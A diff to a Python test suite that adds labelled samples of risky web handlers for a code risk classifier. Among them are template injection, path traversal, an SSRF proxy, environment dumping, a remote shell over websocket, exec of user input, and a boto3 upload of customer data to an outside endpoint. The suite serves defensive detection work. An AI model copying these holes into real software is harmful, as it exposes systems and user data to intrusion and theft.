@@ -1864,6 +1864,118 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # web handlers and development servers
+        (
+            """
+            from flask import Flask, request, render_template_string
+            app = Flask(__name__)
+            @app.route("/hello")
+            def hello():
+                return render_template_string("<h1>" + request.args.get("name", "x") + "</h1>")
+            """,
+            C,
+        ),
+        (
+            """
+            from flask import Flask, request, send_file
+            app = Flask(__name__)
+            @app.get("/download")
+            def download():
+                return send_file(request.args["path"])
+            """,
+            H,
+        ),
+        (
+            """
+            from pathlib import Path
+            from flask import Flask, request, send_file
+            EXPORTS = Path("exports").resolve()
+            app = Flask(__name__)
+            @app.get("/download")
+            def download():
+                p = (EXPORTS / request.args["name"]).resolve()
+                if not p.is_relative_to(EXPORTS):
+                    return "no", 403
+                return send_file(p)
+            """,
+            S,
+        ),
+        (
+            """
+            import requests
+            from flask import Flask, request
+            app = Flask(__name__)
+            @app.route("/proxy")
+            def proxy():
+                return requests.get(request.args["url"]).content
+            """,
+            H,
+        ),
+        (
+            """
+            import os
+            from fastapi import FastAPI
+            app = FastAPI()
+            @app.get("/debug/env")
+            def env():
+                return dict(os.environ)
+            """,
+            H,
+        ),
+        (
+            """
+            from flask import Flask
+            app = Flask(__name__)
+            app.run(host="0.0.0.0", port=5000, debug=True)
+            """,
+            C,
+        ),
+        (
+            """
+            from flask import Flask
+            app = Flask(__name__)
+            app.run(port=5000, debug=True)
+            """,
+            S,
+        ),
+        (
+            """
+            import asyncio
+            from aiohttp import web
+            async def terminal(request):
+                ws = web.WebSocketResponse()
+                await ws.prepare(request)
+                async for msg in ws:
+                    await asyncio.create_subprocess_shell(msg.data)
+            app = web.Application()
+            app.router.add_get("/ws", terminal)
+            """,
+            C,
+        ),
+        (
+            """
+            from transformers import AutoModel
+            m = AutoModel.from_pretrained("someone/new-arch", trust_remote_code=True)
+            """,
+            H,
+        ),
+        (
+            """
+            import boto3
+            s3 = boto3.client("s3", endpoint_url="https://s3.example.org")
+            s3.upload_file("/data/warehouse/customers.parquet", "drop", "c.parquet")
+            """,
+            H,
+        ),
+        (
+            """
+            import gradio as gr
+            def run(code):
+                exec(code)
+            gr.Interface(fn=run, inputs="text", outputs="text").launch(share=True)
+            """,
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
